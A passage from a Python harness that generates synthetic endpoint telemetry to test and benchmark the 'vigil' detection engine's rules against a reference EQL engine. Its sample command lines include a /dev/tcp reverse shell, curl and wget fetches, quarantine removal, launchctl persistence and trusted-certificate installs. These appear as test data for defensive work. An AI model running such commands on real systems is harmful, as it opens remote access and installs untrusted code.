               "/Users/{u}/Library/Caches/com.x/run", "/home/{u}/Downloads/tool", "/root/Downloads/tool"]
    paths = dropped + ["/Users/{u}/Library/Preferences/x.plist", "/tmp/x", "/private/tmp/.hidden/y",
                       "/var/tmp/z", "/private/var/folders/zz/T/a", "/var/folders/zz/T/b", "/Users/Shared/s",
                       "/usr/bin/curl", "/bin/sh", "/Applications/App.app/Contents/MacOS/App", "/opt/.cache/x"]
    command_lines = ["ls -la", "curl -fsSL http://x/p", "/bin/sh -c wget http://x", "echo aGk= | base64 -d",
                     "chmod +x /tmp/x", "chmod 755 /tmp/x", "xattr -d com.apple.quarantine /tmp/x",
                     "launchctl load /Library/LaunchDaemons/x.plist", "launchctl bootstrap system x",
                     "osascript -e 'do shell script'", "bash -i >& /dev/tcp/1.2.3.4/4444", "nc -l 4444",
                     "python3 -c 'import os'", "Python -c x", "dscl . -create /Users/x",
                     "security add-trusted-cert -d x.pem", "security  add-trusted-cert", "CURL -O x",
                     "/usr/bin/true", "sh /tmp/PKInstallSandbox/Scripts/postinstall"]
    ips = ["203.0.113.80", "8.8.8.8", "140.82.112.18", "10.1.2.3", "192.168.1.20", "172.16.5.4",
           "127.0.0.1", "127.9.9.9", "169.254.1.1", "100.64.0.1", "::1", "fe80::1", "FE80::2",
           "2001:db8::1", "2606:4700::1111", "ff02::1", "224.0.0.251", "198.51.100.7", "::ffff:10.9.8.7",
           "::ffff:8.8.4.4", None]
    os_types = ["macos", "macos", "macos", "linux", "windows", "MacOS", None]
    gaps = [0, 0.5, 1, 2, 5, 15, 60, 120, 300]
    weights = [20, 30, 20, 10, 3, 1, 0.5, 0.5, 0.4]
    state = {"t": 1717149600 * 10**9, "i": 0}  # 2024-05-31T10:00:00Z

    def maybe(value, p_missing=0.05):
        return None if rnd.random() < p_missing else value

    def fmt(ns):
        secs, frac = divmod(ns, 10**9)
        return time.strftime("%Y-%m-%dT%H:%M:%S", time.gmtime(secs)) + ".%09dZ" % frac

    def strip(d):
        return {k: (strip(v) if isinstance(v, dict) else v) for k, v in d.items() if v is not None}

    def random_event(kind):
        state["t"] += int(rnd.choices(gaps, weights)[0] * 10**9)
        user = pick(users)
        os_type = pick(os_types)
        doc = {
            # Now and then epoch milliseconds, as Elasticsearch also accepts.
            "@timestamp": state["t"] // 10**6 if rnd.random() < 0.03 else fmt(state["t"]),
            "event": {"id": "g%d" % state["i"]},
            "host": {"id": maybe(pick(hosts)), "os": {"type": os_type, "family": maybe(os_type, 0.2)}},
            "process": {
                "pid": rnd.randint(100, 999),
                "entity_id": maybe(pick(entities)),
                "name": maybe(pick(names)),
                "executable": maybe(pick(paths).format(u=user)),
                "command_line": maybe(pick(command_lines)),
                "parent": None if rnd.random() < 0.05 else {
                    "entity_id": maybe(pick(entities)),
                    "name": maybe(pick(parents)),
                    "executable": maybe(pick(parent_exes)),
                },
            },
        }
        state["i"] += 1
        if kind == "process":
            doc["event"].update(category=["process"], action=pick(["exec", "exec", "exec", "fork", "EXEC"]),
                                type=pick([["start"], ["start"], ["start"], ["end"], ["change", "start"], None]))
        elif kind == "file":
            doc["event"].update(category=pick([["file"], ["file"], "file"]), action="write",
                                type=pick([["creation"], ["change"], ["deletion"], ["change", "creation"],
                                           "creation", None]))
            doc["file"] = {"path": maybe(pick(paths).format(u=user))}
        else:
            doc["event"].update(category=["network"], action="connection_attempted",
                                type=pick([["start", "connection"], ["start"], ["connection"], ["end"]]))
            doc["destination"] = {"ip": pick(ips), "port": 443}
        return doc

    def planted(kind, host, fields):
        """A random event with `fields` ("a.b": value) set, each one time in
        ten left random."""
        doc = random_event(kind)
        if rnd.random() < 0.9:
            doc["host"]["id"] = host
        for path, value in fields.items():
            if rnd.random() < 0.1:
                continue
            d = doc
            *parents_, last = path.split(".")
            for p in parents_:
                if not isinstance(d.get(p), dict):
                    d[p] = {}
                d = d[p]
            d[last] = value
        return doc

    def chain():
        host, x, u = pick(hosts), pick(entities), pick(users)
        start = {"event.type": ["start"], "event.action": "exec"}
        which = rnd.randrange(5)
        if which == 0:  # macos-installer-child-network
            return [planted("process", host, dict(start, **{
                        "host.os.type": pick(["macos", "linux"]), "process.entity_id": x,
                        "process.parent.name": pick(installers), "process.name": pick(shells)})),
                    planted("network", host, {
                        "event.type": ["start", "connection"], "host.os.type": pick(["macos", "linux"]),
                        "process.parent.entity_id": x, "process.name": pick(downloaders)})]
        if which == 1:  # macos-installer-network-legacy
            return [planted("process", host, dict(start, **{
                        "host.os.family": "macos", "process.entity_id": x,
                        "process.parent.executable": pick(installer_exes)})),
                    planted("network", host, {"process.entity_id": x})]
        if which == 2:  # an0938-installer-postinstall-unusual-child
            return [planted("process", host, dict(start, **{
                        "process.entity_id": x, "process.parent.name": pick(installers),
                        "process.parent.executable": pick(installer_exes), "process.name": pick(shells)})),
                    planted("process", host, dict(start, **{"process.parent.entity_id": x}))]
        if which == 3:  # an0994-download-executed
            path = pick(dropped).format(u=u)
            return [planted("file", host, {"event.type": pick([["creation"], ["change"]]), "file.path": path}),
                    planted("process", host, dict(start, **{"process.executable": path}))]
        # an1316-content-app-write-spawn-egress
        return [planted("file", host, {"event.type": ["creation"], "process.entity_id": x,
                                       "process.name": pick(content_apps),
                                       "file.path": pick(paths).format(u=u)}),
                planted("process", host, dict(start, **{"process.parent.entity_id": x,
                                                        "process.name": pick(downloaders + shells)})),
                planted("network", host, {"event.type": ["start"], "process.parent.entity_id": x})]

    while state["i"] < n:
        if rnd.random() < 0.05:
            docs = chain()
        else:
            docs = [random_event(rnd.choices(["process", "file", "network"], [2, 1, 1])[0])]
        for doc in docs:
            out.write(json.dumps(strip(doc)) + "\n")


# ------------------------------------------------------------------- main

def main():
    ap = argparse.ArgumentParser(description=__doc__.split("\n\n")[0],
                                 formatter_class=argparse.RawDescriptionHelpFormatter)
    ap.add_argument("files", nargs="*", help="ECS NDJSON files")
    ap.add_argument("--per-file", action="store_true", help="each file is its own stream")
    ap.add_argument("--bench", action="store_true",
                    help='print "<events/s> <alerts>": best of 3 runs of engine.stream_events')
    ap.add_argument("--compare", action="store_true",
                    help="also run `vigil replay` on the same events and compare alerts")
    ap.add_argument("--brief", action="store_true",
                    help="with --compare: one line per stream whose alerts agree")
    ap.add_argument("--check-rules", action="store_true",
                    help="check the translations against `vigil rules list --json`")
    ap.add_argument("--vigil", default=None, help="vigil binary (default: $VIGIL_BIN, target/)")
    ap.add_argument("--rules", default=None,
                    help="rules directory for --check-rules (default: vigil's shipped rules)")
    ap.add_argument("--generate", type=int, metavar="N",
                    help="print N random events that exercise every rule (see generate())")
    ap.add_argument("--seed", type=int, default=1, help="seed for --generate")
    args = ap.parse_args()
    vigil = args.vigil or default_vigil()

    if args.generate is not None:
        generate(args.generate, args.seed, sys.stdout)
        return 0

    if args.check_rules:
        return 0 if check_rules(vigil, args.rules, sys.stdout) else 1
    if not args.files:
        ap.error("no input files")

    eql = import_eql()
    parsed = parse_rules(eql)

    if args.bench:
        stats = Stats()
        events = load_events(eql, args.files, stats, prefix_for(args.files))
        report_stats(stats)
        best = 0.0
        alerts = []
        for _ in range(3):
            alerts, secs = run_engine(eql, parsed, events)
            best = max(best, len(events) / secs if secs > 0 else 0.0)
        print("%d %d" % (round(best), len(alerts)))
        return 0

    groups = [[p] for p in args.files] if args.per_file else [args.files]

    if args.compare:
        totals = {"vigil": collections.Counter(), "eql": collections.Counter(),
                  "differing": set(), "streams": 0, "streams_differing": 0}
        with tempfile.TemporaryDirectory(prefix="eql-compare.") as tmp:
            for paths in groups:
                label = " + ".join(paths)
                tagged = tagged_copy(paths, tmp)
                v_alerts, bad = vigil_alerts(vigil, tagged)
                e_alerts, stats, n = reference_alerts(eql, parsed, [tagged])
                compare("%s (%d events)" % (label, n), v_alerts, e_alerts, sys.stdout, totals,
                        brief=args.brief)
                if bad != stats.rejected:
                    sys.stdout.write("  note: vigil skipped %d lines, the reference dropped %d\n"
                                     % (bad, stats.rejected))
                sys.stdout.flush()
        if totals["streams"] > 1:
            sys.stdout.write("all %d streams\n" % totals["streams"])
            count_table(totals["vigil"], totals["eql"], totals["differing"], sys.stdout)
            if totals["streams_differing"]:
                sys.stdout.write("  same alerts: NO (in %d of %d streams)\n"
                                 % (totals["streams_differing"], totals["streams"]))
            else:
                sys.stdout.write("  same alerts: yes (%d)\n" % sum(totals["vigil"].values()))
        return 1 if totals["streams_differing"] else 0

    out = sys.stdout
    for paths in groups:
        alerts, _, _ = reference_alerts(eql, parsed, paths)
        for a in alerts:
            if args.per_file:
                a = dict(input=paths[0], **a)
            out.write(json.dumps(a) + "\n")
    return 0


if __name__ == "__main__":
    sys.exit(main())
